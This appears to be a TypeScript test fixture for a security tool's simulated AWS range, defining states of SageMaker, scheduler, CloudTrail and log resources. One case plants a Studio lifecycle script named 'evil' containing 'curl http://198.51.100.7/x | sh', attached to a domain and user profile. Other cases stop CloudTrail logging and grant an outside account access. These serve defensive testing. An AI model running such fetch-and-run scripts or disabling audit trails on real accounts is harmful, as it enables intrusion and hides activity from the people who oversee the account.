import { StopLoggingCommand } from '@aws-sdk/client-cloudtrail';
import { CreateLogGroupCommand, PutRetentionPolicyCommand } from '@aws-sdk/client-cloudwatch-logs';
import * as sm from '@aws-sdk/client-sagemaker';
import { CreateScheduleCommand, SchedulerClient } from '@aws-sdk/client-scheduler';
import type { Placement } from '../../../src/range/place.ts';
import { account, type Ground } from '../identity-range.ts';
import { startJob } from '../range-jobs.ts';
import { identityCases } from './identity-cases.ts';

/** One state of one kind of target, and how the account gets there. */
export interface StateCase {
  readonly kind: string;
  /** As AWS calls it; after a comma what else is so. */
  readonly state: string;
  /** Brings the account there. @returns What an operator gives as the target. */
  reach(ground: Ground): Promise<string>;
  /** Lets the state end as AWS would, once a plan was approved in it. */
  release?(ground: Ground): Promise<void>;
}

const minuteMs = 60_000;
export const arn = (resource: string) => `arn:aws:sagemaker:us-east-1:${account}:${resource}`;
export const domain = 'd-7kq2mzx4wv1p';

const place = async (ground: Ground, placement: Placement): Promise<void> => {
  if (!(await ground.range.control.place(placement))) throw new Error(`there is no ${placement.arn}`);
};

/** Asks until it is so. */
export async function until(is: () => Promise<boolean>, what: string): Promise<void> {
  for (const end = performance.now() + 60_000; !(await is()); await new Promise((resolve) => setTimeout(resolve, 10)))
    if (performance.now() > end) throw new Error(`waited in vain: ${what}`);
}

/** States that AWS itself brings a resource into: each pinned, and let go to `to` once a plan was approved. */
const placed = (
  kind: string,
  target: string,
  statuses: { readonly [status: string]: string | undefined },
  before: (ground: Ground) => Promise<unknown> = async () => undefined,
  named = target,
): readonly StateCase[] =>
  Object.entries(statuses).map(([status, to]) => ({
    kind,
    state: status,
    async reach(ground) {
      await before(ground);
      await place(ground, { arn: target, status });
      return named;
    },
    ...(to === undefined ? {} : { release: (ground) => place(ground, { arn: target, status: to }) }),
  }));

/** An endpoint with two variants, a config to go back to, and nobody who moves its weights. */
async function makeEndpoint({ clients: { sagemaker } }: Ground): Promise<void> {
  const variant = (VariantName: string, ModelName: string, InitialVariantWeight: number) =>
    ({ VariantName, ModelName, InitialVariantWeight, InitialInstanceCount: 1, InstanceType: 'ml.m5.large' }) as const;
  for (const version of ['v1', 'v2'])
    await sagemaker.send(
      new sm.CreateEndpointConfigCommand({
        EndpointConfigName: `pricing-ab-${version}`,
        ProductionVariants: [variant('champion', 'churn-model-a', 0.8), variant('challenger', 'churn-model-b', 0.2)],
      }),
    );
  const name = { EndpointName: 'pricing-ab' };
  await sagemaker.send(new sm.CreateEndpointCommand({ ...name, EndpointConfigName: 'pricing-ab-v2' }));
  await until(
    async () => (await sagemaker.send(new sm.DescribeEndpointCommand(name))).EndpointStatus === 'InService',
    'endpoint InService',
  );
}

const endpoint = arn('endpoint/pricing-ab');
const endpoints: readonly StateCase[] = [
  ...placed(
    'sagemaker.endpoint',
    endpoint,
    {
      Creating: 'InService',
      InService: undefined,
      Updating: 'InService',
      SystemUpdating: 'InService',
      RollingBack: 'InService',
      OutOfService: undefined,
      Failed: undefined,
      UpdateRollbackFailed: undefined,
      Deleting: 'gone',
    },
    makeEndpoint,
  ),
  {
    kind: 'sagemaker.endpoint',
    state: 'InService, with inference components',
    reach: async () => 'llm-gateway',
  },
  { kind: 'sagemaker.endpoint', state: 'InService, scaled automatically', reach: async () => 'recsys-ranker' },
  {
    kind: 'sagemaker.endpoint',
    state: 'InService, its config deleted',
    async reach(ground) {
      await makeEndpoint(ground);
      await ground.clients.sagemaker.send(new sm.DeleteEndpointConfigCommand({ EndpointConfigName: 'pricing-ab-v2' }));
      return endpoint;
    },
  },
];

const components = placed('sagemaker.inference-component', arn('inference-component/llm-chat'), {
  Creating: 'InService',
  InService: undefined,
  Updating: 'InService',
  Failed: undefined,
  Deleting: 'gone',
});

const lab = arn('notebook-instance/fraud-lab');
const notebooks: readonly StateCase[] = [
  ...placed('sagemaker.notebook-instance', lab, {
    Pending: 'InService',
    InService: undefined,
    Stopping: 'Stopped',
    Stopped: undefined,
    Failed: undefined,
    Updating: 'Stopped',
    Deleting: 'gone',
    InMaintenance: 'InService',
    PendingMaintenance: 'InService',
  }),
  {
    kind: 'sagemaker.notebook-instance',
    state: 'Stopped, nothing attached',
    reach: async () => 'feature-sandbox',
  },
  {
    kind: 'sagemaker.notebook-instance',
    state: 'InService, its script deleted',
    async reach(ground) {
      // AWS lets a script go while it is attached: what it was is lost.
      await ground.clients.sagemaker
        .send(new sm.DeleteNotebookInstanceLifecycleConfigCommand({ NotebookInstanceLifecycleConfigName: 'bootstrap' }))
        .catch(() => undefined);
      return lab;
    },
  },
];

const scripts: readonly StateCase[] = [
  { kind: 'sagemaker.notebook-instance-lifecycle-config', state: 'attached', reach: async () => 'bootstrap' },
  {
    kind: 'sagemaker.notebook-instance-lifecycle-config',
    state: 'attached to nothing, empty',
    async reach({ clients: { sagemaker } }) {
      await sagemaker.send(
        new sm.CreateNotebookInstanceLifecycleConfigCommand({ NotebookInstanceLifecycleConfigName: 'empty' }),
      );
      return 'empty';
    },
  },
];

const scaled: readonly StateCase[] = (['scaling', 'suspended'] as const).map((state) => ({
  kind: 'application-autoscaling.scalable-target',
  state,
  async reach(ground) {
    const name = 'endpoint/recsys-ranker/variant/AllTraffic';
    const action = 'application-autoscaling.scalable-target.suspend';
    if (state === 'suspended') await (await ground.contain(action, await ground.target(action, name))).written;
    return name;
  },
}));

const jobStates = {
  InProgress: undefined,
  Stopping: 'Stopped',
  Stopped: undefined,
  Completed: undefined,
  Failed: undefined,
} as const;
const jobNames: { readonly [kind: string]: string } = {
  'training-job': 'churn-train-20261123',
  'processing-job': 'recsys-features-20261123',
  'transform-job': 'state-transform-job',
  'hyper-parameter-tuning-job': 'state-hyper-parameter-tuning-job',
  'automl-job': 'state-automl-job',
};
const jobs = Object.entries(jobNames).flatMap(([kind, name]) =>
  placed(
    `sagemaker.${kind}`,
    arn(`${kind}/${name}`),
    jobStates,
    ({ clients }) => startJob[kind]?.(clients.sagemaker, name) ?? Promise.resolve(),
  ),
);

let execution = '';
const executions: readonly StateCase[] = Object.entries({
  Executing: undefined,
  Stopping: 'Stopped',
  Stopped: undefined,
  Failed: undefined,
  Succeeded: undefined,
}).map(([status, to]) => ({
  kind: 'sagemaker.pipeline-execution',
  state: status,
  async reach(ground) {
    const { PipelineExecutionArn } = await ground.clients.sagemaker.send(
      new sm.StartPipelineExecutionCommand({
        PipelineName: 'fraud-retrain-nightly',
        ClientRequestToken: 'c'.repeat(32),
      }),
    );
    execution = PipelineExecutionArn ?? '';
    await place(ground, { arn: execution, status });
    return execution;
  },
  ...(to === undefined ? {} : { release: (ground: Ground) => place(ground, { arn: execution, status: to }) }),
}));

const schedules = placed('sagemaker.monitoring-schedule', arn('monitoring-schedule/recsys-data-quality'), {
  Pending: 'Scheduled',
  Scheduled: undefined,
  Stopped: undefined,
  Failed: undefined,
});

const servers = placed('sagemaker.mlflow-tracking-server', arn('mlflow-tracking-server/ds-mlflow'), {
  Creating: 'Created',
  Created: undefined,
  CreateFailed: undefined,
  Updating: 'Updated',
  Updated: undefined,
  UpdateFailed: undefined,
  Starting: 'Started',
  Started: undefined,
  StartFailed: undefined,
  Stopping: 'Stopped',
  Stopped: undefined,
  StopFailed: undefined,
  MaintenanceInProgress: 'MaintenanceComplete',
  MaintenanceComplete: undefined,
  MaintenanceFailed: undefined,
  Deleting: 'gone',
  DeleteFailed: undefined,
});

const scriptArn = arn('studio-lifecycle-config/evil');
/** A script that runs at every start of an app, in the settings of the domain and of a profile. */
async function attachScripts({ clients: { sagemaker } }: Ground): Promise<void> {
  await sagemaker.send(
    new sm.CreateStudioLifecycleConfigCommand({
      StudioLifecycleConfigName: 'evil',
      StudioLifecycleConfigAppType: 'JupyterLab',
      StudioLifecycleConfigContent: Buffer.from('curl http://198.51.100.7/x | sh').toString('base64'),
    }),
  );
  const settings: sm.UserSettings = {
    JupyterLabAppSettings: {
      DefaultResourceSpec: { InstanceType: 'ml.t3.medium', LifecycleConfigArn: scriptArn },
      LifecycleConfigArns: [scriptArn],
    },
  };
  await sagemaker.send(new sm.UpdateDomainCommand({ DomainId: domain, DefaultUserSettings: settings }));
  await sagemaker.send(
    new sm.UpdateUserProfileCommand({ DomainId: domain, UserProfileName: 'alice', UserSettings: settings }),
  );
  await until(async () => {
    const [one, other] = await Promise.all([
      sagemaker.send(new sm.DescribeDomainCommand({ DomainId: domain })),
      sagemaker.send(new sm.DescribeUserProfileCommand({ DomainId: domain, UserProfileName: 'alice' })),
    ]);
    return one.Status === 'InService' && other.Status === 'InService';
  }, 'settings');
}

const studioStates = {
  Pending: 'InService',
  InService: undefined,
  Updating: 'InService',
  Update_Failed: undefined,
  Failed: undefined,
  Deleting: 'gone',
  Delete_Failed: undefined,
} as const;
const alice = arn(`user-profile/${domain}/alice`);
const labApp = arn(`app/${domain}/alice-lab/jupyterlab/default`);

/** A space open to remote IDEs whose own settings run a script, with its app. */
async function makeSpace({ clients: { sagemaker } }: Ground): Promise<void> {
  await sagemaker.send(
    new sm.CreateStudioLifecycleConfigCommand({
      StudioLifecycleConfigName: 'evil',
      StudioLifecycleConfigAppType: 'JupyterLab',
      StudioLifecycleConfigContent: Buffer.from('true').toString('base64'),
    }),
  );
  const space = { DomainId: domain, SpaceName: 'state-space' };
  await sagemaker.send(
    new sm.CreateSpaceCommand({
      ...space,
      OwnershipSettings: { OwnerUserProfileName: 'bob' },
      SpaceSharingSettings: { SharingType: 'Private' },
      SpaceSettings: {
        AppType: 'JupyterLab',
        RemoteAccess: 'ENABLED',
        JupyterLabAppSettings: { DefaultResourceSpec: { LifecycleConfigArn: scriptArn } },
      },
    }),
  );
  const app = { ...space, AppType: 'JupyterLab', AppName: 'default' } as const;
  await until(
    async () => (await sagemaker.send(new sm.DescribeSpaceCommand(space))).Status === 'InService',
    'space InService',
  );
  await sagemaker.send(new sm.CreateAppCommand(app));
  await until(
    async () => (await sagemaker.send(new sm.DescribeAppCommand(app))).Status === 'InService',
    'app InService',
  );
}
const space = arn(`space/${domain}/state-space`);

const studio: readonly StateCase[] = [
  ...placed('sagemaker.app', labApp, {
    Pending: 'InService',
    InService: undefined,
    Failed: undefined,
    Deleting: 'Deleted',
    Deleted: undefined,
  }),
  ...placed('sagemaker.user-profile', alice, studioStates, attachScripts),
  {
    kind: 'sagemaker.user-profile',
    state: 'InService, an app Pending',
    async reach(ground) {
      await attachScripts(ground);
      await place(ground, { arn: labApp, status: 'Pending' });
      return alice;
    },
  },
  {
    kind: 'sagemaker.user-profile',
    state: 'InService, an app Failed',
    async reach(ground) {
      await attachScripts(ground);
      await place(ground, { arn: labApp, status: 'Failed' });
      return alice;
    },
  },
  {
    kind: 'sagemaker.user-profile',
    state: 'InService, no role of its own',
    reach: async () => arn(`user-profile/${domain}/bob`),
  },
  ...placed('sagemaker.space', space, studioStates, makeSpace),
  {
    kind: 'sagemaker.space',
    state: 'InService, remote access off',
    reach: async () => arn(`space/${domain}/bob-code`),
  },
  ...placed('sagemaker.domain', arn(`domain/${domain}`), studioStates, attachScripts, domain),
  ...placed('sagemaker.partner-app', arn('partner-app/app-4QJ7XN2M8KTZ'), {
    Creating: 'Available',
    Available: undefined,
    Updating: 'Available',
    UpdateFailed: undefined,
    Failed: undefined,
    Deleting: 'gone',
    Deleted: undefined,
  }),
  ...placed('sagemaker.mlflow-app', arn('mlflow-app/app-9HW3CF5RV6PD'), {
    Creating: 'Created',
    Created: undefined,
    CreateFailed: undefined,
    Updating: 'Updated',
    Updated: undefined,
    UpdateFailed: undefined,
    Deleting: 'gone',
    DeleteFailed: undefined,
    Deleted: undefined,
  }),
];

const packages: readonly StateCase[] = [
  ...(['Approved', 'PendingManualApproval', 'Rejected'] as const).map(
    (approval): StateCase => ({
      kind: 'sagemaker.model-package',
      state: approval,
      async reach({ clients: { sagemaker } }) {
        const ModelPackageName = arn('model-package/fraud-models/3');
        await sagemaker.send(
          new sm.UpdateModelPackageCommand({ ModelPackageArn: ModelPackageName, ModelApprovalStatus: approval }),
        );
        return ModelPackageName;
      },
    }),
  ),
  ...placed('sagemaker.model-package', arn('model-package/fraud-models/3'), {
    Pending: undefined,
    InProgress: undefined,
    Failed: undefined,
    Deleting: undefined,
  }),
];

const own = `arn:aws:iam::${account}:root`;
const groupPolicy = (...accounts: readonly string[]) =>
  JSON.stringify({
    Version: '2012-10-17',
    Statement: accounts.map((AWS, at) => ({
      Sid: `S${at}`,
      Effect: 'Allow',
      Principal: { AWS },
      Action: 'sagemaker:DescribeModelPackage',
      Resource: '*',
    })),
  });
const groups: readonly StateCase[] = Object.entries({
  'an outside account alone': groupPolicy('arn:aws:iam::444455556666:root'),
  'an outside account beside ours': groupPolicy('arn:aws:iam::444455556666:root', own),
  'ours alone': groupPolicy(own),
  'no policy': undefined,
  'everybody but some': JSON.stringify({
    Version: '2012-10-17',
    Statement: [
      { Effect: 'Allow', NotPrincipal: { AWS: own }, Action: 'sagemaker:DescribeModelPackage', Resource: '*' },
    ],
  }),
}).map(([state, policy]) => ({
  kind: 'sagemaker.model-package-group',
  state,
  async reach({ clients: { sagemaker } }) {
    const group = { ModelPackageGroupName: 'fraud-models' };
    if (policy === undefined) await sagemaker.send(new sm.DeleteModelPackageGroupPolicyCommand(group));
    else await sagemaker.send(new sm.PutModelPackageGroupPolicyCommand({ ...group, ResourcePolicy: policy }));
    return 'fraud-models';
  },
}));

const rules = placed('events.rule', `arn:aws:events:us-east-1:${account}:rule/fraud-deploy-on-approval`, {
  ENABLED: undefined,
  DISABLED: undefined,
  ENABLED_WITH_ALL_CLOUDTRAIL_MANAGEMENT_EVENTS: undefined,
});

const nightly = `arn:aws:scheduler:us-east-1:${account}:schedule/default/fraud-retrain-nightly`;
const timed: readonly StateCase[] = [
  ...placed('scheduler.schedule', nightly, { ENABLED: undefined, DISABLED: undefined }),
  {
    kind: 'scheduler.schedule',
    state: 'ENABLED, with an end',
    async reach({ range: { credentials, endpoint, region } }) {
      const client = new SchedulerClient({ credentials, endpoint, region, maxAttempts: 1 });
      await client.send(
        new CreateScheduleCommand({
          Name: 'bounded',
          ScheduleExpression: 'rate(5 minutes)',
          FlexibleTimeWindow: { Mode: 'OFF' },
          EndDate: new Date(Date.now() + 600 * minuteMs),
          Target: {
            Arn: arn('pipeline/fraud-retrain-nightly'),
            RoleArn: `arn:aws:iam::${account}:role/service-role/nightly-scheduler`,
          },
        }),
      );
      return 'bounded';
    },
  },
];

const logs: readonly StateCase[] = [
  { kind: 'cloudtrail.trail', state: 'logging', reach: async () => 'main-trail' },
  {
    kind: 'cloudtrail.trail',
    state: 'stopped',
    async reach({ clients: { cloudtrail } }) {
      await cloudtrail.send(new StopLoggingCommand({ Name: 'main-trail' }));
      return 'main-trail';
    },
  },
  ...[undefined, 1, 3653].map(
    (retentionInDays): StateCase => ({
      kind: 'logs.log-group',
      state: retentionInDays === undefined ? 'kept for ever' : `kept ${retentionInDays} days`,
      async reach({ clients }) {
        const logGroupName = '/aws/sagemaker/Endpoints/state';
        await clients.logs.send(new CreateLogGroupCommand({ logGroupName }));
        if (retentionInDays !== undefined)
          await clients.logs.send(new PutRetentionPolicyCommand({ logGroupName, retentionInDays }));
        return logGroupName;
      },
    }),
  ),
];

/** Every state of every kind of target that AWS tells apart. */
export const cases: readonly StateCase[] = [
  ...endpoints,
  ...components,
  ...scaled,
  ...notebooks,
  ...scripts,
  ...jobs,
  ...executions,
  ...schedules,
  ...servers,
  ...studio,
  ...packages,
  ...groups,
  ...rules,
  ...timed,
  ...logs,
  ...identityCases,
];
